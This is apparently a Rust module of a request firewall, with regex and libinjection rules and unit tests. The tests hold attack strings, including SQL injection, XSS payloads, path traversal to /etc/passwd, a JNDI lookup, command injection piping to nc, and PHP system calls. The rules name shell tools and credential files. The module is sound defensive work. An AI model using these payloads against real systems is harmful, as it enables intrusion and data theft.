//! A firewall for requests: a small set of rules, each documented in docs/gateway.md. It is not the OWASP Core Rule Set
//! and does not claim to be; what it looks for by grammar (SQL, HTML) it leaves to a port of libinjection.

use std::panic::{AssertUnwindSafe, catch_unwind};
use std::sync::LazyLock;
use std::sync::atomic::{AtomicU64, Ordering};

use http::header::{CONTENT_TYPE, COOKIE, HeaderMap, REFERER, USER_AGENT};
use regex::bytes::{Regex, RegexBuilder};

use crate::clock;
use crate::config::{Waf, WafLevel};

/// Strings of a JSON body that are looked at.
const STRINGS: usize = 10_000;
/// Lines a second that the log takes of matches; the counts are exact all the same.
const LINES: u64 = 20;

/// Where a text of a request comes from.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum From {
    Path,
    Query,
    Body,
    /// A body without fields, such as XML.
    Raw,
    Header,
}

/// What a rule looks for.
enum Look {
    Sql,
    Html,
    Pattern(fn() -> &'static Regex),
}

struct Rule {
    id: u16,
    name: &'static str,
    level: WafLevel,
    from: &'static [From],
    look: Look,
}

macro_rules! pattern {
    ($text:literal) => {
        Look::Pattern(|| {
            static PATTERN: LazyLock<Regex> = LazyLock::new(|| {
                RegexBuilder::new($text)
                    .case_insensitive(true)
                    .build()
                    .expect("a pattern of ours is sound")
            });
            &PATTERN
        })
    };
}

const FIELDS: &[From] = &[From::Query, From::Body];
const ANY: &[From] = &[From::Path, From::Query, From::Body, From::Raw, From::Header];

const RULES: &[Rule] = &[
    Rule { id: 1001, name: "sql_injection", level: WafLevel::Basic, from: FIELDS, look: Look::Sql },
    Rule {
        id: 1002,
        name: "script_injection",
        level: WafLevel::Basic,
        from: FIELDS,
        look: Look::Html,
    },
    Rule {
        id: 1003,
        name: "path_traversal",
        level: WafLevel::Basic,
        from: FIELDS,
        look: pattern!(
            r"(?:\.\.[/\\]){2}|(?:^|[=/\\])\.\.[/\\](?:etc|proc|var|windows|boot)|/etc/(?:passwd|shadow)\b|/proc/self/|\bwin\.ini\b"
        ),
    },
    Rule {
        id: 1004,
        name: "lookup_injection",
        level: WafLevel::Basic,
        from: ANY,
        look: pattern!(r"\$\{\s*(?:jndi\s*:|(?:lower|upper|env|sys|date|::?-?)[^}]{0,40}\})"),
    },
    Rule {
        id: 1005,
        name: "shell_function",
        level: WafLevel::Basic,
        from: &[From::Header],
        look: pattern!(r"\(\s*\)\s*\{"),
    },
    Rule {
        id: 1006,
        name: "hidden_file",
        level: WafLevel::Basic,
        from: &[From::Path],
        look: pattern!(
            r"/\.(?:env|git|svn|hg|aws|ssh|htpasswd|htaccess|npmrc|docker)(?:$|[/.])|/(?:wp-config\.php|id_rsa|\.DS_Store)(?:$|[.~])"
        ),
    },
    Rule {
        id: 1007,
        name: "control_character",
        level: WafLevel::Basic,
        from: FIELDS,
        look: pattern!(r"(?-u)\x00"),
    },
    Rule {
        id: 1008,
        name: "command_injection",
        level: WafLevel::Standard,
        from: FIELDS,
        look: pattern!(
            r"(?:[;|&`\n]|\$\()\s*(?:/(?:usr/)?bin/)?(?:cat|whoami|wget|curl|nc|ncat|bash|sh|zsh|powershell|cmd(?:\.exe)?|ping|uname|python3?|perl|ruby|chmod|rm)\b(?:\s+(?:[-/$.~]|https?:|\d+\.\d)|\s*[;|&`)]|\s*$)"
        ),
    },
    Rule {
        id: 1009,
        name: "php_injection",
        level: WafLevel::Standard,
        from: &[From::Query, From::Body, From::Raw],
        look: pattern!(
            r"<\?php|\b(?:php|phar|expect|zip|data)://|\b(?:base64_decode|shell_exec|passthru|proc_open)\s*\("
        ),
    },
    Rule {
        id: 1010,
        name: "external_entity",
        level: WafLevel::Standard,
        from: &[From::Query, From::Body, From::Raw],
        look: pattern!(
            r#"<!ENTITY\s|<!DOCTYPE\s[^>]*(?:SYSTEM|PUBLIC)\s*["'][^"']*(?:file|ftp|http)"#
        ),
    },
    Rule {
        id: 1011,
        name: "scanner",
        level: WafLevel::Standard,
        from: &[From::Header],
        look: pattern!(
            r"\b(?:sqlmap|nikto|nessus|acunetix|wpscan|nuclei|dirbuster|gobuster|masscan|zgrab|havij|openvas|w3af)\b"
        ),
    },
    Rule {
        id: 1012,
        name: "metadata_address",
        level: WafLevel::Standard,
        from: FIELDS,
        look: pattern!(
            r"\b169\.254\.169\.254\b|\bmetadata\.google\.internal\b|\b100\.100\.100\.200\b"
        ),
    },
    Rule {
        id: 1013,
        name: "template_injection",
        level: WafLevel::Strict,
        from: FIELDS,
        look: pattern!(r"\{\{[^}]*[*(_][^}]*\}\}|<%=|#\{[^}]*[*(][^}]*\}"),
    },
    Rule {
        id: 1014,
        name: "sql_injection_in_header",
        level: WafLevel::Strict,
        from: &[From::Header],
        look: Look::Sql,
    },
    Rule {
        id: 1015,
        name: "script_injection_in_header",
        level: WafLevel::Strict,
        from: &[From::Header],
        look: Look::Html,
    },
];

/// How often each rule matched.
pub(crate) struct Matches([AtomicU64; RULES.len()], AtomicU64, AtomicU64);

impl Default for Matches {
    fn default() -> Self {
        Self(std::array::from_fn(|_| AtomicU64::new(0)), AtomicU64::new(0), AtomicU64::new(0))
    }
}

impl Matches {
    /// Rules with their names and counts.
    pub(crate) fn all(&self) -> impl Iterator<Item = (u16, &'static str, u64)> {
        RULES
            .iter()
            .zip(&self.0)
            .map(|(rule, count)| (rule.id, rule.name, count.load(Ordering::Relaxed)))
    }

    /// Counts a match; whether the log may take a line of it, in which nothing of what matched stands.
    pub(crate) fn count(&self, found: Match) -> bool {
        self.0[found.index].fetch_add(1, Ordering::Relaxed);
        let second = clock::millis() / 1000;
        if self.1.swap(second, Ordering::Relaxed) != second {
            self.2.store(0, Ordering::Relaxed);
        }
        self.2.fetch_add(1, Ordering::Relaxed) < LINES
    }
}

/// A rule that matched.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) struct Match {
    pub(crate) id: u16,
    pub(crate) name: &'static str,
    index: usize,
}

/// Whether the ids of a file are of rules.
pub(crate) fn is_rule(id: u16) -> bool {
    RULES.iter().any(|rule| rule.id == id)
}

/// Looks at everything but the body. `path` is decoded; `headers` are those passed on and those taken away.
pub(crate) fn look_at_head(
    waf: &Waf,
    path: &str,
    query: Option<&str>,
    headers: [&HeaderMap; 2],
) -> Option<Match> {
    let look = |from: From, text: &[u8]| look(waf, from, text);
    look(From::Path, path.as_bytes())
        .or_else(|| pairs(query.unwrap_or_default().as_bytes(), |text| look(From::Query, text)))
        .or_else(|| {
            let values = headers.iter().flat_map(|headers| {
                [USER_AGENT, REFERER, COOKIE].into_iter().flat_map(|name| headers.get_all(name))
            });
            values.into_iter().find_map(|value| {
                // Cookies are looked at one by one.
                let parts = value.as_bytes().split(|byte| *byte == b';');
                parts.into_iter().find_map(|part| look(From::Header, part.trim_ascii()))
            })
        })
}

/// Whether a body is of a kind that is looked at.
pub(crate) fn reads(headers: &HeaderMap) -> bool {
    kind(headers).is_some()
}

enum Kind {
    Form,
    Json,
    Parts(String),
    /// Parts without a boundary: whoever reads them finds one.
    Unclear,
    Raw,
}

fn kind(headers: &HeaderMap) -> Option<Kind> {
    let text = headers.get(CONTENT_TYPE)?.to_str().ok()?;
    let mut parts = text.split(';').map(str::trim);
    let name = parts.next()?.to_ascii_lowercase();
    match name.as_str() {
        "application/x-www-form-urlencoded" => Some(Kind::Form),
        "application/json" => Some(Kind::Json),
        "multipart/form-data" => parts
            .filter_map(|part| part.split_once('='))
            .find(|(name, _)| name.trim().eq_ignore_ascii_case("boundary"))
            .map_or(Some(Kind::Unclear), |(_, boundary)| {
                Some(Kind::Parts(boundary.trim().trim_matches('"').to_owned()))
            }),
        "application/xml" => Some(Kind::Raw),
        name if name.ends_with("+json") => Some(Kind::Json),
        name if name.ends_with("+xml") || name.starts_with("text/") => Some(Kind::Raw),
        _ => None,
    }
}

/// Looks at a body, or at its beginning.
pub(crate) fn look_at_body(waf: &Waf, headers: &HeaderMap, body: &[u8]) -> Option<Match> {
    let field = |text: &[u8]| look(waf, From::Body, text);
    match kind(headers)? {
        Kind::Form => pairs(body, field),
        Kind::Json => match serde_json::from_slice::<serde_json::Value>(body) {
            Ok(value) => {
                let mut left = STRINGS;
                strings(&value, &mut left, &field)
            }
            // Cut off, or no JSON: as it is.
            Err(_) => look(waf, From::Raw, body).or_else(|| field(body)),
        },
        Kind::Unclear => look(waf, From::Raw, body).or_else(|| field(body)),
        Kind::Parts(boundary) => parts(body, boundary.as_bytes(), field),
        Kind::Raw => look(waf, From::Raw, body),
    }
}

fn pairs(text: &[u8], look: impl Fn(&[u8]) -> Option<Match>) -> Option<Match> {
    url::form_urlencoded::parse(text).find_map(|(name, value)| {
        [name, value].iter().find_map(|text| {
            look(text.as_bytes()).or_else(|| {
                // Encoded twice, to be decoded by what is behind.
                let twice = percent_encoding::percent_decode_str(text);
                text.contains('%').then(|| look(&twice.collect::<Vec<u8>>())).flatten()
            })
        })
    })
}

fn strings(
    value: &serde_json::Value,
    left: &mut usize,
    look: &impl Fn(&[u8]) -> Option<Match>,
) -> Option<Match> {
    use serde_json::Value;
    if *left == 0 {
        return None;
    }
    *left -= 1;
    match value {
        Value::String(text) => look(text.as_bytes()),
        Value::Array(items) => items.iter().find_map(|item| strings(item, left, look)),
        Value::Object(fields) => fields
            .iter()
            .find_map(|(name, item)| look(name.as_bytes()).or_else(|| strings(item, left, look))),
        _ => None,
    }
}

/// The fields of a multipart body, and the names of its files; not what is in the files.
fn parts(body: &[u8], boundary: &[u8], look: impl Fn(&[u8]) -> Option<Match>) -> Option<Match> {
    let mark = [b"--", boundary].concat();
    let mut starts: Vec<usize> = memchr::memmem::find_iter(body, &mark).collect();
    starts.push(body.len());
    starts.windows(2).find_map(|pair| {
        let part = &body[(pair[0] + mark.len()).min(pair[1])..pair[1]];
        let end = memchr::memmem::find(part, b"\r\n\r\n")?;
        let (head, text) = (&part[..end], &part[end + 4..]);
        if is_file(head) {
            return look(head);
        }
        look(text.strip_suffix(b"\r\n").unwrap_or(text))
    })
}

/// Whether a part's head says that it is a file: by that parameter of that field, and nothing that looks like it.
fn is_file(head: &[u8]) -> bool {
    head.split(|byte| *byte == b'\n').any(|line| {
        let line = String::from_utf8_lossy(line);
        let Some((name, value)) = line.split_once(':') else { return false };
        name.trim().eq_ignore_ascii_case("content-disposition")
            && value.split(';').skip(1).filter_map(|one| one.split_once('=')).any(|(name, _)| {
                matches!(name.trim().to_ascii_lowercase().as_str(), "filename" | "filename*")
            })
    })
}

fn look(waf: &Waf, from: From, text: &[u8]) -> Option<Match> {
    if text.is_empty() {
        return None;
    }
    RULES.iter().enumerate().find_map(|(index, rule)| {
        let applies = rule.level <= waf.level
            && rule.from.contains(&from)
            && !waf.without_rules.contains(&rule.id);
        let found = applies
            && match &rule.look {
                Look::Pattern(pattern) => pattern().is_match(text),
                // A parser of a stranger's text that breaks is taken for a match, not for the end of the worker.
                Look::Sql => catch_unwind(AssertUnwindSafe(|| {
                    libinjectionrs::detect_sqli(text).is_injection()
                }))
                .unwrap_or(true),
                Look::Html => catch_unwind(AssertUnwindSafe(|| {
                    libinjectionrs::detect_xss(text).is_injection()
                }))
                .unwrap_or(true),
            };
        found.then_some(Match { id: rule.id, name: rule.name, index })
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn waf(level: WafLevel) -> Waf {
        Waf {
            block: true,
            level,
            body: 1 << 17,
            without_paths: Vec::new(),
            without_rules: Vec::new(),
            log: true,
        }
    }

    fn query(level: WafLevel, value: &str) -> Option<u16> {
        let encoded: String = url::form_urlencoded::byte_serialize(value.as_bytes()).collect();
        let query = format!("q={encoded}");
        look_at_head(&waf(level), "/", Some(&query), [&HeaderMap::new(); 2]).map(|found| found.id)
    }

    #[test]
    fn attacks_are_found_by_the_rule_that_is_meant_for_them() {
        for (value, rule) in [
            ("1' OR '1'='1", 1001),
            ("1 UNION SELECT password FROM users--", 1001),
            ("1; DROP TABLE users", 1001),
            ("1 AND SLEEP(5)", 1001),
            ("admin'--", 1001),
            ("1%27%20OR%20%271%27%3D%271", 1001),
            ("<script>alert(1)</script>", 1002),
            ("\"><svg/onload=alert(1)>", 1002),
            ("<img src=x onerror=alert(1)>", 1002),
            ("../../../etc/passwd", 1003),
            ("..\\..\\windows\\win.ini", 1003),
            ("file=/etc/passwd", 1003),
            ("${jndi:ldap://x/a}", 1004),
            ("${${lower:j}ndi:ldap://x}", 1004),
            ("a\0b", 1007),
            ("x; cat /etc/hosts", 1008),
            ("$(whoami)", 1008),
            ("a | nc 10.0.0.1 99", 1008),
            ("<?php system($_GET[1])", 1009),
            ("php://filter/convert", 1009),
            ("http://169.254.169.254/latest", 1012),
            ("{{7*7}}", 1013),
        ] {
            assert_eq!(query(WafLevel::Strict, value), Some(rule), "{value}");
        }
        for path in
            ["/.env", "/a/.git/config", "/.aws/credentials", "/wp-config.php~", "/.ENV.local"]
        {
            let found = look_at_head(&waf(WafLevel::Basic), path, None, [&HeaderMap::new(); 2]);
            assert_eq!(found.map(|found| found.id), Some(1006), "{path}");
        }
    }

    #[test]
    fn what_people_write_passes() {
        for value in [
            "quero marcar às 10h; pode ser?",
            "João & Maria - bar e grill",
            "Selecione uma opção, por favor",
            "preço: R$ 10,00 (ou 2x de R$ 5,00)",
            "it's a test -- really",
            "a/b/c/../d",
            "update: where is the union office?",
            "<3 adorei!",
            "1 < 2 e 3 > 2",
            "meu e-mail é ana+teste@exemplo.com.br",
            "cat, dog & bird; curl up",
            "olá {{nome}}",
            "50% off",
            "C:\\Users\\Ana",
            "https://loja.example/p?id=1&x=2",
        ] {
            assert_eq!(query(WafLevel::Standard, value), None, "{value}");
        }
        for path in ["/.well-known/acme-challenge/x", "/environment", "/a.env.b", "/gitlab/x"] {
            let found = look_at_head(&waf(WafLevel::Strict), path, None, [&HeaderMap::new(); 2]);
            assert_eq!(found, None, "{path}");
        }
    }

    #[test]
    fn bodies_are_looked_at_by_their_kind() {
        let body = |kind: &str, body: &str| {
            let mut headers = HeaderMap::new();
            headers.insert(CONTENT_TYPE, kind.parse().expect("kind"));
            look_at_body(&waf(WafLevel::Standard), &headers, body.as_bytes()).map(|found| found.id)
        };
        let sql = "1' OR '1'='1";
        let form = "application/x-www-form-urlencoded";
        assert_eq!(body(form, "a=b&c=1%27+OR+%271%27%3D%271"), Some(1001));
        assert_eq!(
            body("application/json", &format!("{{\"a\": [1, {{\"b\": \"{sql}\"}}]}}")),
            Some(1001)
        );
        assert_eq!(body("application/json; charset=utf-8", "{\"a\": \"bom dia\"}"), None);
        let multipart = |disposition: &str, text: &str| {
            format!(
                "--X\r\nContent-Disposition: form-data; {disposition}\r\n\r\n{text}\r\n--X--\r\n"
            )
        };
        let kind = "multipart/form-data; boundary=X";
        assert_eq!(body(kind, &multipart("name=a", sql)), Some(1001));
        assert_eq!(body(kind, &multipart("name=a; filename=\"x.txt\"", sql)), None);
        assert_eq!(
            body(kind, &multipart("name=a; filename=\"../../etc/passwd\"", "x")),
            Some(1003)
        );
        // What only looks like a file is a field.
        assert_eq!(body("multipart/form-data; Boundary=X", &multipart("name=a", sql)), Some(1001));
        assert_eq!(body(kind, &multipart("name=\"filename\"", sql)), Some(1001));
        assert_eq!(body(kind, &multipart("name=a\r\nX-filename: 1", sql)), Some(1001));
        assert_eq!(body("multipart/form-data", sql), Some(1001));
        assert_eq!(body("text/xml", "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///c\">]>"), Some(1010));
        assert_eq!(body("image/png", sql), None);
    }
}
